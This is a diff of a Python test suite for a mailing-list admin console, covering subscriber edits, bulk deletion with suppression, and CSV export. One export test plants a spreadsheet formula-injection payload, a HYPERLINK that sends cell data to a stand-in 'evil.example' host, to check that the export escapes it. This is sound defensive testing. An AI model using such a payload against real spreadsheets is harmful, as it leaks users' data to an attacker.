@@ -114,9 +114,9 @@ def _leave_traces(client: TestClient, ids: tuple[int, int, int, int]) -> None:
     tested = submit(client, f"/admin/editions/{edition}", f"/admin/editions/{edition}/test",
                     {"email": "rana@example.org"})
     assert tested.status_code == 303
-    edit = f"/admin/subscriber/edit/{subscriber}"
-    edited = submit(client, edit, edit, {"name": "Rana Haddad", "timezone": "Asia/Damascus",
-                                         "attributes": '{"note": "rana@example.org"}'})
+    edited = submit(client, person, f"{person}/details",
+                    {"name": "Rana Haddad", "timezone": "Asia/Damascus",
+                     "attributes": '{"note": "rana@example.org"}'})
     assert edited.status_code in (302, 303)
     custom = {"edition_id": str(edition), "subscriber_id": str(subscriber),
               "delivery_id": str(delivery)}
@@ -170,10 +170,11 @@ def test_forget_leaves_no_trace_and_the_export_showed_every_event(
 
 def test_deleting_a_subscriber_in_the_console_suppresses_the_address(
         rt: Runtime, admin: TestClient) -> None:
-    subscriber, _membership, _edition, _delivery = _sent_to_rana(rt)
-    answer = admin.delete(f"/admin/subscriber/delete?pks={subscriber}",
-                          headers={"Origin": "https://digest.example.org"})
-    assert answer.status_code == 200
+    subscriber, membership, _edition, _delivery = _sent_to_rana(rt)
+    answer = submit(admin, "/admin/people", "/admin/people/bulk",
+                    {"membership_ids": [membership], "action": "delete", "reason": "asked"})
+    assert answer.status_code == 303
+    assert "rana@example.org" not in _outbox_text(rt).lower()  # their copies go too
     with rt.sessions() as session:
         assert session.get(Subscriber, subscriber) is None
         assert session.scalar(select(Suppression.id).where(
@@ -191,7 +192,7 @@ def test_the_console_csv_export_never_hands_a_spreadsheet_a_formula(
         ml = create_list(session, "Syria Digest")
         subscribe(session, ml.id, "eve@example.org",
                   name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
-    answer = admin.get("/admin/subscriber/export/csv")
+    answer = admin.get(f"/admin/lists/{ml.id}/export.csv")
     assert answer.status_code == 200
     cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
     assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells
